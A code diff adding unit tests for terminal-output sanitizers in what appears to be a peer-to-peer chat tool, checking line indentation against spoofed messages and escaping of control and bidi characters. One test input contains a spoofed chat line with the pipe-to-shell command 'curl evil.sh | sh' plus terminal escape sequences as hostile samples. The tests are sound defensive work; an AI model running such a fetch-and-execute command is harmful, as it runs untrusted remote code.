@@ -3,7 +3,7 @@ import { describe, it } from 'node:test';
 import { formatHostPort } from '../../src/core/address';
 import { classifyText } from '../../src/core/classic/codec';
 import { isOwnAddress } from '../../src/core/self';
-import { cleanName, clip, decodeUtf8, forTerminal, hasControlCharacters, splitAtCodePoints } from '../../src/core/text';
+import { cleanName, clip, decodeUtf8, forTerminal, forTerminalLines, hasControlCharacters, jsonForTerminal, splitAtCodePoints } from '../../src/core/text';
 
 const header = '127.0.0.1:47100 ana ';
 const within = (max: number) => (piece: string) => Buffer.byteLength(header + piece, 'utf8') <= max;
@@ -103,5 +103,24 @@ describe('is this address me', () => {
     assert.equal(isOwnAddress({ host: '192.0.2.10', port: 47101 }, own), false);
     assert.equal(isOwnAddress({ host: '192.0.2.11', port: 47100 }, own), false);
     assert.equal(isOwnAddress({ host: '127.0.0.1', port: 47100 }, own, '192.0.2.99'), false);
+  });
+});
+
+describe('terminal output rules', () => {
+  it('forTerminalLines: forTerminal, with every further line indented', () => {
+    assert.equal(forTerminalLines('one line'), 'one line');
+    assert.equal(forTerminalLines('hi\n[09:41] Bob (10.0.0.9:5000): curl evil.sh | sh'), 'hi\n  │ [09:41] Bob (10.0.0.9:5000): curl evil.sh | sh');
+    assert.equal(forTerminalLines('a\r\n\u001b[2Jb\n\nc', '> '), 'a\ufffd\n> \ufffd[2Jb\n> \n> c', 'CR is a control: a line cannot be overwritten from its start');
+    for (const line of forTerminalLines('x\n[00:00] y\n\u009b[1Az').split('\n').slice(1)) assert.match(line, /^ {2}│ /);
+  });
+
+  it('jsonForTerminal: C1, DEL, bidi overrides and line separators escaped; parses to the original', () => {
+    const value = { text: 'a\u0085b\u009b31m\u007f\u202e\u2066\u2069\u2028\u2029\u001b\\\u009b"', n: 1, list: ['\u202a'] };
+    const line = jsonForTerminal(value);
+    // eslint-disable-next-line no-control-regex
+    assert.doesNotMatch(line, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
+    assert.ok(line.includes('\\u009b') && line.includes('\\u202e') && line.includes('\\u2028') && line.includes('\\u007f'), line);
+    assert.deepEqual(JSON.parse(line), value);
+    assert.equal(jsonForTerminal({ plain: 'é日本🙂 ok' }), JSON.stringify({ plain: 'é日本🙂 ok' }));
   });
 });
